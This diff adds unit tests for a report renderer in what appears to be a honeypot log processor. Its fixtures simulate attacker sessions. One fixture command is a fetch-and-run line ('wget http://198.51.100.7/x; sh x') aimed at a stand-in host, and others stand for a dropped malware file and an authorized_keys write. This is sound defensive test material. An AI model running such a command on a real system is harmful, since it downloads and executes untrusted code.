@@ -1,0 +1,231 @@
+"""The report as an operator reads it."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from sqlalchemy import Connection, Engine
+
+from cowrieprocessor.db.engine import read_transaction, write_transaction
+from cowrieprocessor.reporting.periods import PeriodKind, period_of
+from cowrieprocessor.reporting.render.terminal import Screen, size_text
+from cowrieprocessor.reporting.render.text import report_text
+from cowrieprocessor.reporting.reports import Report, make_report
+from tests.unit.reporting.scene import DAY, add_dead_letter, add_file, add_hash, add_session, at, sha
+
+GOLDEN = """\
+Cowrie report: Saturday 21 November 2026 (UTC)
+────────────────────────────────────────────────────────────────────────────────────────────────────
+3 sessions from 2 addresses, 2 of them let in. 2 sessions dropped 3 different files: 1 malicious, 2
+never seen before.
+
+                   this day  day before  change
+───────────────────────────────────────────────
+sessions                  3           2   +50 %
+source addresses          2           1  +100 %
+sessions let in           2           2    same
+login attempts            6           4   +50 %
+commands                  5           0     new
+different files           3           0     new
+never seen before         2           0     new
+malicious                 1           0     new
+downloads                 3           0     new
+uploads                   1           0     new
+
+What was dropped
+SHA-256       name                         type          size  sessions  verdict          first seen
+────────────────────────────────────────────────────────────────────────────────────────────────────
+000002000000  /tmp/.x/redtail.x86_64       executable  1.5 MB         1  malicious 58/72  new
+000001000000  /root/.ssh/authorized_keys   text         389 B         2  clean            2026-10-12
+000003000000                                                          1  not checked      new
+
+Where they were fetched from
+sessions  files  URL
+────────────────────────────────────────────────────────────────────────────────────────────────────
+       1      1  fxp://***@198[.]51[.]100[.]7/redtail.x86_64
+
+Where from                                        User names
+sessions  events  address                         sessions  logins tried  name
+──────────────────────────────────────────────    ──────────────────────────────────────────────────
+       2      20  203.0.113.5                            2             4  root
+       1      10  2001:db8::7                            1             2  [admin]
+
+What they typed
+sessions  times  command
+────────────────────────────────────────────────────────────────────────────────────────────────────
+       2      4  uname -a
+       1      1  wget hxxp://198[.]51[.]100[.]7/x; sh x
+
+Sensors                                           Protocols
+sessions  events  sensor                          sessions  events  protocol
+──────────────────────────────────────────────    ──────────────────────────────────────────────────
+       2      20  lab                                    2      20  ssh
+       1      10  office                                 1      10  telnet
+
+Not understood
+2 dead letters of any date: not JSON 2
+
+Next
+  cowrieprocessor files show --db my.sqlite 000002000000
+  cowrieprocessor sessions list --db my.sqlite --since 2026-11-21 --until 2026-11-22 --with-files
+  cowrieprocessor dead-letters list --db my.sqlite
+  cowrieprocessor report daily --db my.sqlite --date 2026-11-20
+"""
+
+
+def _fill(connection: Connection) -> None:
+    add_session(connection, "a", at(1), commands={"uname -a": 3})
+    add_session(connection, "b", at(2), commands={"uname -a": 1, "wget http://198.51.100.7/x; sh x": 1})
+    add_session(
+        connection,
+        "c",
+        at(3),
+        sensor="office",
+        src_ip="2001:db8::7",
+        username="[admin]",
+        login_success=False,
+        protocol="telnet",
+    )
+    add_session(connection, "d", at(1, days=-1))
+    add_session(connection, "e", at(2, days=-1))
+    add_hash(connection, sha(1), at(0, days=-40), at(2), size_bytes=389, mime_type="text/plain", verdict="clean")
+    add_hash(
+        connection,
+        sha(2),
+        at(2),
+        size_bytes=1_500_000,
+        mime_type="application/x-executable",
+        verdict="malicious",
+        vt_positives=58,
+        vt_total=72,
+        enrichment_status="enriched",
+    )
+    add_hash(connection, sha(3), at(2))
+    for name in ("a", "b"):
+        add_file(connection, name, sha(1), at(2), filename="/root/.ssh/authorized_keys")
+    add_file(
+        connection,
+        "b",
+        sha(2),
+        at(2),
+        filename="/tmp/.x/redtail.x86_64",
+        download_url="ftp://u:secret@198.51.100.7/redtail.x86_64",
+    )
+    add_file(connection, "b", sha(3), at(2), origin="upload")
+    for _ in range(2):
+        add_dead_letter(connection, "not JSON", {"malformed": "{"})
+
+
+def _report(engine: Engine, kind: PeriodKind = PeriodKind.DAILY, *, days: int = 0) -> Report:
+    with read_transaction(engine) as connection:
+        return make_report(connection, period_of(kind, at(0, days=days)))
+
+
+def test_report_reads_like_this(engine: Engine) -> None:
+    """The whole report, on 100 columns without colour, is this text on both databases."""
+    with write_transaction(engine) as connection:
+        _fill(connection)
+    assert report_text(_report(engine), Screen(), db="my.sqlite") == GOLDEN
+
+
+@pytest.mark.parametrize("width", [20, 60, 89, 90, 100, 150, 240])
+def test_report_fits_any_width(engine: Engine, width: int) -> None:
+    """No line is wider than the screen; a narrow one keeps every number, a wide one has the whole hashes."""
+    with write_transaction(engine) as connection:
+        _fill(connection)
+    text = report_text(_report(engine), Screen(width))
+    assert max(len(line) for line in text.splitlines()) <= max(width, 40)
+    assert (sha(2) in text) == (width >= 150)
+    assert "58/72" in text or width < 100
+
+
+def test_colour_is_only_colour(engine: Engine) -> None:
+    """On a terminal the only escape sequences are those of colour, and without them the text is the same."""
+    with write_transaction(engine) as connection:
+        _fill(connection)
+    plain = re.sub(r"\x1b\[[0-9;]*m", "", report_text(_report(engine), Screen(100, color=True), db="my.sqlite"))
+    assert "\x1b" not in plain
+    assert GOLDEN.splitlines() == [line.rstrip() for line in plain.splitlines()]
+
+
+def test_nothing_happened_is_said(engine: Engine) -> None:
+    """A day without sessions and files says so in one sentence and names the day before."""
+    text = report_text(_report(engine), Screen())
+    assert "Nothing happened: no session began and no file was seen (2026-11-21, UTC)." in text
+    assert "cowrieprocessor report daily --date 2026-11-20" in text
+    assert "What was dropped" not in text
+
+
+@pytest.mark.parametrize(
+    ("kind", "title", "column"),
+    [
+        (PeriodKind.WEEKLY, "week 47 of 2026, 16 November 2026 to 22 November 2026 (UTC)", "week before"),
+        (PeriodKind.MONTHLY, "November 2026 (UTC)", "month before"),
+    ],
+)
+def test_weeks_and_months_are_called_so(engine: Engine, kind: PeriodKind, title: str, column: str) -> None:
+    """A weekly or monthly report names its week or month, and compares with the one before."""
+    with write_transaction(engine) as connection:
+        _fill(connection)
+        add_session(connection, "w", at(0, days=-30))
+        add_session(connection, "x", at(0, days=-6))
+    text = report_text(_report(engine, kind), Screen())
+    assert title in text
+    assert column in text
+
+
+@pytest.mark.parametrize(
+    ("files", "sessions", "said"),
+    [
+        ([], 1, "1 session from 1 address, 1 of them let in. No file was dropped."),
+        ([("s0", 1, "download", 5)], 1, "1 session dropped 1 different file: not seen before."),
+        ([("s0", 1, "download", -99)], 1, "1 session dropped 1 different file, all seen before."),
+        ([("artifact:lab", 1, "artifact", 5)], 0, "0 sessions. 1 captured file that no log names: not seen before."),
+    ],
+)
+def test_headline_says_what_there_is(
+    engine: Engine, files: list[tuple[str, int, str, int]], sessions: int, said: str
+) -> None:
+    """The first sentence fits what happened: no files, one new, one known, or only captured ones."""
+    with write_transaction(engine) as connection:
+        for number in range(sessions):
+            add_session(connection, f"s{number}", at(5))
+        for session, number, origin, first in files:
+            add_hash(connection, sha(number), at(first))
+            add_file(connection, session, sha(number), at(5), origin=origin)
+    assert said in " ".join(report_text(_report(engine), Screen()).split())
+
+
+def test_missing_attributes_are_said(engine: Engine) -> None:
+    """Where addresses are not known, as before a backfill, the report says of how many sessions."""
+    with write_transaction(engine) as connection:
+        add_session(connection, "a", at(1), attributes=False)
+    assert "Address, user name and protocol of 1 session are not known" in report_text(_report(engine), Screen())
+
+
+def test_cut_lists_say_how_many_more(engine: Engine) -> None:
+    """Behind a list that was cut stands how many there are beyond it."""
+    with write_transaction(engine) as connection:
+        for number in range(30):
+            add_session(connection, f"s{number}", at(1), src_ip=f"10.0.0.{number}")
+            add_hash(connection, sha(number), at(1))
+            add_file(connection, f"s{number}", sha(number), at(1))
+    text = report_text(_report(engine), Screen())
+    assert "and 5 more files" in text
+    assert "and 20 more" in text
+
+
+@pytest.mark.parametrize(
+    ("size_bytes", "text"),
+    [(None, ""), (0, "0 B"), (999, "999 B"), (1000, "1.0 kB"), (999_949, "999.9 kB"), (999_951, "1.0 MB"),
+     (5_000_000_000, "5.0 GB"), (5_000_000_000_000, "5,000.0 GB")],
+)  # fmt: skip
+def test_sizes_are_written_for_people(size_bytes: int | None, text: str) -> None:
+    """A size has one decimal and the unit that keeps it short."""
+    assert text == size_text(size_bytes)
+
+
+def test_the_scene_is_on_a_saturday() -> None:
+    """The golden text's day is the scene's."""
+    assert f"{DAY:%A}" == "Saturday"
